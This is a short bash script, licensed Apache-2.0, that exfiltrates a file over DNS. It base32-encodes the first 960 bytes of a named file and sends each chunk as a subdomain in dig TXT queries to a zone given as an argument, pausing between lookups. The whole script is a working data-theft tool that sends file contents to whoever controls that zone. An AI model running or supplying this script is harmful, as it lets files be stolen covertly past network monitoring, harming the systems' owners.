#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Carries a file out in names, with dig: dig.sh ZONE FILE
for part in $(head -c 960 "$2" | base32 -w 48 | tr -d = | tr A-Z a-z); do
	dig +short TXT "$part.$1"
	sleep 0.2
done
